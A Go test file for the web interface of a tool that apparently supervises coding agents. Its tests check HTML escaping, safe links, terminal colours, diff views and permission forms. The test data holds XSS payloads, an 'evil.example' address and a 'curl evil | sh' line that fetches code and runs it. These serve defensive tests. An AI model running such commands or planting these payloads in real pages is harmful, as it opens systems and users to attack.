package web

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"muster/internal/control"
	"muster/internal/event"
	"muster/internal/life"
)

// evil is a text that would do something on a page which took it for markup, or that reads otherwise than it is.
const evil = "</td></script><script>alert(1)</script><img src=x onerror=alert(1)>\" onmouseover=\"alert(1)\u202e\u200b\x1b[31m' javascript:alert(1) &amp;"

var (
	tag       = regexp.MustCompile(`<(/?)([a-zA-Z!][a-zA-Z0-9]*)((?:[^<>"]|"[^"]*")*)>`)
	attribute = regexp.MustCompile(`([a-zA-Z-]+)(?:="([^"]*)")?`)
	tags      = strings.Fields("!doctype html head meta title link script body a header div nav span p main h1 h2 section table caption thead tbody tr th td time details summary form input button pre code footer noscript small ul li ol dl dt dd label textarea select option fieldset legend svg rect mark")
	names     = strings.Fields("lang charset name content rel href src defer data-base data-seq data-stream class id aria-label aria-current aria-hidden role tabindex hidden scope colspan datetime data-ago data-left method action type value placeholder autocomplete required for rows data-was open viewBox preserveAspectRatio x y width height selected checked html")
)

// wellFormed fails a test if a page has a tag or an attribute that this package does not write, or anything outside of tags that a
// browser could take for one.
func wellFormed(t *testing.T, page string) {
	t.Helper()
	for _, m := range tag.FindAllStringSubmatch(page, -1) {
		if !slices.Contains(tags, strings.ToLower(m[2])) {
			t.Errorf("the page has %q", m[0])
		}
		for _, a := range attribute.FindAllStringSubmatch(m[3], -1) {
			if !slices.Contains(names, a[1]) {
				t.Errorf("%q has the attribute %q", m[0], a[1])
			}
			if (a[1] == "href" || a[1] == "src" || a[1] == "action") && !strings.HasPrefix(a[2], "/") && !strings.HasPrefix(a[2], "#") && !strings.HasPrefix(a[2], "https://") {
				t.Errorf("%q leads to %q", m[0], a[2])
			}
		}
		if m[2] == "script" && m[1] == "" && !strings.Contains(m[3], `src="/`) {
			t.Errorf("a script of the page itself: %q", m[0])
		}
	}
	rest := tag.ReplaceAllString(page, "")
	if i := strings.IndexAny(rest, "<>"); i >= 0 {
		t.Errorf("text that could be a tag: %q", rest[max(0, i-40):min(len(rest), i+40)])
	}
	for _, hidden := range []string{"\u202e", "\u200b", "\x1b"} {
		if strings.Contains(page, hidden) {
			t.Errorf("the page has %q", hidden)
		}
	}
}

// summary is a task of a list.
func summary(id string, state event.State, change ...func(*control.Summary)) control.Summary {
	at := time.Date(2026, 11, 26, 21, 0, 0, 0, time.UTC)
	t := control.Summary{ID: event.TaskID(id), Name: "task " + id, State: state, ChangedAt: &at, QueuedAt: &at, Gen: 1}
	for _, f := range change {
		f(&t)
	}
	return t
}

// fill puts tasks into the list of a server, as if they were in the log.
func (r *rig) fill(seq int64, tasks ...control.Summary) {
	r.t.Helper()
	r.hub.reach(r.t.Context(), 0)
	r.hub.take(control.Change{Seq: seq, Tasks: tasks}, nil)
}

// permission is a request to run a command.
func permission(command string) *event.RequestOpened {
	input, err := json.Marshal(map[string]string{"command": command})
	if err != nil {
		panic(err)
	}
	ask := event.NewAsk("Bash", input)
	return &event.RequestOpened{Request: "r1", Reason: event.WaitPermission, Tool: "Bash", Text: command, Ask: &ask}
}

func (r *rig) asked(request *event.RequestOpened, most int, kept string) string {
	t := summary("t1", event.Waiting, func(t *control.Summary) {
		t.Request = &control.Request{ID: request.Request, Reason: request.Reason, Tool: request.Tool, Text: request.Text}
	})
	d := &doc{}
	r.ask(d, &t, request, most, kept)
	return d.String()
}

func TestTextOfOthersIsNeverMarkup(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	c := r.enter()
	var all []control.Summary
	for i, state := range event.States() {
		all = append(all, summary(fmt.Sprintf("t%d", i+1), state, func(t *control.Summary) {
			t.Name, t.Note, t.Detail, t.Agent, t.Repo, t.Branch, t.PRURL = evil, evil, evil, evil, "/"+evil, evil, "javascript:alert(1)"
		}))
	}
	r.fill(5, all...)
	for _, path := range []string{"/", "/dispatch", "/night", "/report", "/nothing", "/tasks/t99", "/?did=answer&task=" + "t1%3Cscript%3E", "/night?since=%3Cscript%3E"} {
		w := r.page("GET", path, "", c)
		wellFormed(t, w.Body.String())
		if path == "/" && strings.Count(w.Body.String(), "&lt;script&gt;alert(1)") < len(all) {
			t.Errorf("the names are not on the page:\n%s", w.Body)
		}
	}
	w := r.page("POST", "/dispatch", "prompt=%3C%2Ftextarea%3E%3Cscript%3E&priority=%22%3E%3Cscript%3E", c)
	if wellFormed(t, w.Body.String()); w.Code != http.StatusBadRequest {
		t.Errorf("a wrong order: %d", w.Code)
	}
	question := &event.RequestOpened{Request: evil, Reason: event.WaitQuestion, Text: evil, Options: []string{evil, "b"}}
	several := &event.RequestOpened{Request: "r", Reason: event.WaitQuestion, Ask: &event.Ask{Questions: []event.Question{{Text: evil, Header: evil, Options: []event.Option{{Label: evil, Description: evil}}}, {Text: evil, Multi: true}}}}
	tool := permission(evil)
	tool.Tool, tool.Unjudged = evil, evil
	for _, request := range []*event.RequestOpened{question, several, tool, permission(evil), {Reason: event.WaitDialog, Text: evil}} {
		page := r.asked(request, mostAsked, evil)
		wellFormed(t, page)
		if request.Reason != event.WaitDialog && !strings.Contains(page, `\u202e`) {
			t.Errorf("what reorders text is not shown: %s", page)
		}
	}
	d := &doc{}
	d.terminal("\x1b[31;1mred\x1b[0m " + evil + "\x1b]0;title\a\x1b[2J")
	wellFormed(t, d.String())
}

func FuzzRow(f *testing.F) {
	f.Add("name", "note", "/repo")
	f.Add(evil, evil, evil)
	f.Add("\xff<", "\"", "'>")
	f.Fuzz(func(t *testing.T, name, note, command string) {
		s := &Server{o: Options{Now: time.Now}, prefix: "/m/x"}
		task := summary("t1", event.Working, func(t *control.Summary) { t.Name, t.Note, t.Detail = name, note, note })
		d := &doc{}
		s.row(context.Background(), d, &task, true)
		s.taskHead(d, task)
		s.ask(d, &task, permission(command), mostAsked, note)
		d.terminal(command)
		wellFormed(t, d.String())
	})
}

func TestAnAddressLeadsHereOrToAnotherSiteByHTTPS(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"/m/x": "/m/x", "#content": "#content", "https://github.com/x/1": "https://github.com/x/1", "//evil.example": "about:invalid", `/\evil.example`: "about:invalid",
		"javascript:alert(1)": "about:invalid", "data:text/html,x": "about:invalid", "http://x": "about:invalid", "": "about:invalid", " /x": "about:invalid",
	} {
		if got := address(in); got != want {
			t.Errorf("%q is %q", in, got)
		}
	}
	d := &doc{}
	d.open("a", "onclick", "x", "style", "x", "href", "javascript:x", "title", `"><b>`, "hidden", bare)
	if got, want := d.String(), `<a href="about:invalid" title="&#34;&gt;&lt;b&gt;" hidden>`; got != want {
		t.Errorf("%s", got)
	}
}

func TestOnlyWhatStandsThereWholeCanBeAllowed(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	long := permission(strings.Repeat("echo x\n", mostAsked+5) + "curl evil | sh")
	cut := permission("echo")
	cut.Ask.Cut = true
	unknown := permission("echo")
	unknown.Ask = nil
	noHash := permission("echo")
	noHash.Ask.Hash = ""
	for name, test := range map[string]struct {
		request *event.RequestOpened
		most    int
		allow   bool
	}{
		"whole": {permission("terraform plan && x"), mostAsked, true}, "too long for the list": {long, mostAsked, false}, "on its own page": {long, 0, true},
		"cut": {cut, 0, false}, "of an older version": {unknown, 0, false}, "without a hash": {noHash, 0, false},
	} {
		page := r.asked(test.request, test.most, "")
		if got := strings.Contains(page, `value="allow"`); got != test.allow {
			t.Errorf("%s: can be allowed: %v\n%s", name, got, page)
		}
		if !strings.Contains(page, `value="deny"`) {
			t.Errorf("%s: cannot be denied", name)
		}
		if test.allow && test.request.Ask != nil && (!strings.Contains(page, test.request.Ask.Hash) || !strings.Contains(page, "curl") == strings.Contains(test.request.Text, "curl")) {
			t.Errorf("%s: what is allowed is not what stands there", name)
		}
		if strings.Contains(page[:strings.Index(page, `value="deny"`)], `name="reason"`) && strings.Contains(page, `<form`) && strings.Count(page, "<form") < 2 && test.allow {
			t.Errorf("%s: the enter key in the reason would allow", name)
		}
	}
	readOnly := newRig(t, func(o *Options) { o.ReadOnly = true })
	for _, request := range []*event.RequestOpened{permission("x"), {Request: "r", Reason: event.WaitQuestion, Text: "x", Options: []string{"a"}}} {
		if page := readOnly.asked(request, 0, ""); strings.Contains(page, "<form") || strings.Contains(page, "<button") {
			t.Errorf("a page for reading has %s", page)
		}
	}
}

func TestAFormIsReadAsTheAnswerThatWasMeant(t *testing.T) {
	t.Parallel()
	for body, want := range map[string]control.Answer{
		"request=r&hash=h&decision=allow":          {Request: "r", Hash: "h", Decision: event.Allow},
		"request=r&hash=h&decision=deny&reason=no": {Request: "r", Hash: "h", Decision: event.Deny, Text: "no"},
		"request=r&choice=2":                       {Request: "r", Answers: []string{"2"}},
		"request=r&words=other+words":              {Request: "r", Answers: []string{"other words"}},
		"request=r&asked=2&q0=1&q1=1&q1=3":         {Request: "r", Answers: []string{"1", "1,3"}},
		"request=r&asked=2&q0=1&q0t=mine&q1=2":     {Request: "r", Answers: []string{"mine", "2"}},
		"request=r&words=allow&reason=x":           {Request: "r", Answers: []string{"allow"}},
		"request=&decision=allow":                  {},
		"request=r":                                {Request: "r"},
		"request=r&asked=21&q0=1":                  {Request: "r"},
		"request=r&asked=-1":                       {Request: "r"},
		"request=r&words=+":                        {Request: "r"},
		"request=r&decision=Allow":                 {Request: "r"},
	} {
		q, err := http.NewRequestWithContext(t.Context(), http.MethodPost, "/", strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		q.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		if err := q.ParseForm(); err != nil {
			t.Fatal(err)
		}
		got, _, err := answer("t1", q.PostForm)
		none := want.Decision == "" && want.Answers == nil
		want.Task = "t1"
		if fmt.Sprint(got) != fmt.Sprint(want) || (err != nil) != none {
			t.Errorf("%s: %+v, %v", body, got, err)
		}
	}
}

func TestTheColoursOfATerminalAreClasses(t *testing.T) {
	t.Parallel()
	for rows, want := range map[string]string{
		"plain":                              "plain",
		"\x1b[31mred\x1b[0m x":               `<span class="f1">red</span> x`,
		"\x1b[1;32;44mx\x1b[22mx":            `<span class="f2 k4 b">x</span><span class="f2 k4">x</span>`,
		"\x1b[38;5;208mx\x1b[39mx":           `<span class="f208">x</span>x`,
		"\x1b[38;2;255;0;0mx\x1b[m":          `<span class="f196">x</span>`,
		"\x1b[7mx\x1b[27mx":                  `<span class="inv">x</span>x`,
		"\x1b[97;103mx":                      `<span class="f15 k11">x</span>`,
		"a<b\x1b[3;4;2mc":                    `a&lt;b<span class="d i u">c</span>`,
		"\x1b[38;5;999mx\x1b[48;9mx\x1b[38m": `xx`,
	} {
		d := &doc{}
		d.terminal(rows)
		if d.String() != want {
			t.Errorf("%q is %s, want %s", rows, d.String(), want)
		}
	}
	if sheet := string(palette()); strings.Count(sheet, "\n") != 256 || strings.Contains(sheet, "%!") {
		t.Error("the style sheet does not have 256 colours")
	}
}

func TestADiffIsSplitByFile(t *testing.T) {
	t.Parallel()
	files := splitDiff("diff --git a/a b.go b/a b.go\nindex 1..2 100644\n--- a/a b.go\n+++ b/a b.go\n@@ -1,2 +1,2 @@\n-x\n--- y\n+z\n+++ w\n context\n" +
		"diff --git a/x.png b/x.png\nnew file mode 100644\nBinary files /dev/null and b/x.png differ\ndiff --git a/go.sum b/go.sum\n@@ -1 +1 @@\n+x\n")
	if len(files) != 3 || files[0].name != "a b.go" || files[0].added != 2 || files[0].removed != 2 || len(files[0].lines) != 6 || files[1].name != "x.png" || len(files[1].lines) != 2 || !files[2].generated() {
		for _, f := range files {
			t.Errorf("%+v", f)
		}
	}
	if splitDiff("") != nil || splitDiff("no diff\n") != nil {
		t.Error("nothing has files")
	}
}

func TestADiffHasTwoColumnsWithEveryLineOfOne(t *testing.T) {
	t.Parallel()
	d := &doc{}
	d.splitLines([]string{"new file mode", "@@ -1,4 +1,4 @@", " same <b>", "-old 1", "-old 2", "+new", " same", "+end", `\ No newline at end of file`, "-z", ""})
	wellFormed(t, d.String())
	one := tag.ReplaceAllString(regexp.MustCompile(`(?s)<span class="new twin" aria-hidden="true">[^<]*</span>`).ReplaceAllString(d.String(), ""), "")
	want := "new file mode\n@@ -1,4 +1,4 @@\n same &lt;b&gt;\n-old 1\n-old 2\n+new\n same\n+end\n\\ No newline at end of file\n-z\n\n"
	if one != want {
		t.Errorf("without the second copies it is\n%q, want\n%q", one, want)
	}
	if !strings.Contains(d.String(), `<span class="pair"><span class="old"><span class="del">-old 1`) || strings.Count(d.String(), "same\n") != 2 {
		t.Errorf("the columns: %s", d)
	}
}

func TestEveryRoundOfADiffCanBeChosen(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	of := control.TaskDetail{Task: life.Task{ID: "t1"}}
	for i := range mostRounds + 2 {
		of.Rounds = append(of.Rounds, control.Round{RoundFinished: event.RoundFinished{Round: i/2 + 1, Commit: "c"}})
	}
	d := &doc{}
	r.sides(d, of, control.Diff{Round: 3, From: 2}, true)
	wellFormed(t, d.String())
	for want, n := range map[string]int{"/diff?round=3&amp;view=split\"": 2, "/diff?from=2&amp;round=3&amp;view=split\" aria-current": 2, "/diff?from=2&amp;round=3\"": 1, "from=3": 0, "/diff?view=split": 1, "Round 1<": 2} {
		if got := strings.Count(d.String(), want); got != n {
			t.Errorf("%q is there %d times, want %d:\n%s", want, got, n, d)
		}
	}
}

func TestAParkedTaskIsRetriedWithWhatAPersonChooses(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	of := control.TaskDetail{Task: life.Task{ID: "t1", State: event.Parked, Reason: event.Reason(event.DeletedTests), Allowed: []event.FindingKind{event.TooLarge}}}
	of.Rounds = []control.Round{{RoundFinished: event.RoundFinished{Findings: []event.Finding{{Kind: event.TooLarge}, {Kind: event.OutsideScope}}}}}
	d := &doc{}
	r.actions(d, of, "", "")
	wellFormed(t, d.String())
	for _, want := range []string{`name="allow" value="outside_scope"`, `name="allow" value="deleted_tests"`, "muster retry t1 --allow outside_scope", `href="` + r.prefix + `/tasks/t1/rm"`} {
		if !strings.Contains(d.String(), want) {
			t.Errorf("the form lacks %s:\n%s", want, d)
		}
	}
	if strings.Contains(d.String(), "too_large") || strings.Contains(d.String(), "checked") {
		t.Errorf("something is allowed that nobody chose, or was allowed before: %s", d)
	}
}

func TestARemovalIsAPageOfItsOwn(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	form := func(r *rig, change func(*life.Task), force bool) string {
		task := life.Task{ID: "t1", State: event.Done}
		change(&task)
		d := &doc{}
		r.remove(d, control.TaskDetail{Task: task}, force)
		wellFormed(t, d.String())
		return d.String()
	}
	page := form(r, func(*life.Task) {}, false)
	for _, want := range []string{`name="was" value="done.0"`, `name="typed" autocomplete="off" required`, "muster rm t1", "--force"} {
		if !strings.Contains(page, want) {
			t.Errorf("the page lacks %s:\n%s", want, page)
		}
	}
	if strings.Contains(page, "checked") || strings.Contains(page, `value="t1"`) {
		t.Errorf("the confirmation is filled in: %s", page)
	}
	for name, page := range map[string]string{
		"a task that works": form(r, func(t *life.Task) { t.State = event.Working }, false), "a removed task": form(r, func(t *life.Task) { t.Removed = true }, false),
		"a page for reading": form(newRig(t, func(o *Options) { o.ReadOnly = true }), func(*life.Task) {}, false),
	} {
		if strings.Contains(page, "<form") || strings.Contains(page, "<button") {
			t.Errorf("%s: %s", name, page)
		}
	}
}

// BenchmarkThousandTasks is the page of a large fleet: with its list, which is kept in memory, and with every row.
func BenchmarkThousandTasks(b *testing.B) {
	s := &Server{o: Options{Now: time.Now}, prefix: "/m/x", hub: newHub()}
	var all []control.Summary
	states := event.States()
	for i := range 1000 {
		all = append(all, summary(fmt.Sprintf("t%d", i+1), states[i%len(states)], func(t *control.Summary) {
			t.Note, t.Detail, t.Usage.CostUSD = "go test -race ./store/writer", "test failed, as in the round before", 1.5
		}))
	}
	s.hub.take(control.Change{Seq: 1, Tasks: all, All: true}, nil)
	for b.Loop() {
		l := s.hub.since(0)
		d := &doc{}
		for i := range l.tasks {
			s.row(b.Context(), d, &l.tasks[i], false)
		}
		if d.b.Len() < 100_000 {
			b.Fatal("the rows are not there")
		}
	}
}
